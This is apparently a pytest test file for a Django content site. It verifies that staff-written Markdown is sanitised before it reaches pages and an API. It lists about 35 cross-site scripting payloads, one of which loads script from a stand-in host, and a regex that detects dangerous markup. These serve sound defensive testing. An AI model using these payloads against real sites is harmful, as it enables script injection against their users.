"""Staff Markdown is sanitised: no payload survives into a shopper's page."""

import re

import pytest

from tests.factories import ArticleFactory, ConditionFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('x')\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">text</p>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<style>body{background:red}</style>",
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|meta|link|base|style|svg|math|video|audio|body|details|marquee)\b"
    r"|\son\w+\s*="
    r"|(href|src|action|data)\s*=\s*[\"']?\s*(javascript|vbscript|data):"
    r"|&#106;avascript"
    r"|\sstyle\s*=",
    re.IGNORECASE,
)


def test_there_are_at_least_30_payloads_and_each_is_dangerous_unsanitised():
    import markdown

    assert len(PAYLOADS) >= 30
    harmless_without_sanitiser = [
        p for p in PAYLOADS if not DANGEROUS.search(markdown.markdown(p, extensions=["extra"]))
    ]
    assert harmless_without_sanitiser == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_any_guide_section_never_reaches_the_page(client, rebuild_index, payload):
    article = ArticleFactory(
        condition=ConditionFactory(slug="xss"),
        slug="xss",
        overview=f"Before {payload} after",
        long_term_healing=payload,
    )
    rebuild_index()

    html = client.get(article.get_absolute_url()).content.decode()
    main = html.split('<main id="main"', 1)[1].split("</main>", 1)[0]

    assert not DANGEROUS.search(main), DANGEROUS.search(main).group(0)
    assert "Before" in main


@pytest.mark.parametrize("payload", PAYLOADS[:10])
def test_payload_never_reaches_the_api(api_client, rebuild_index, payload):
    ArticleFactory(condition=ConditionFactory(slug="xss"), slug="xss", causes=payload)
    rebuild_index()

    sections = api_client.get("/api/v1/articles/xss/").json()["sections"]

    assert not any(DANGEROUS.search(section["html"]) for section in sections)
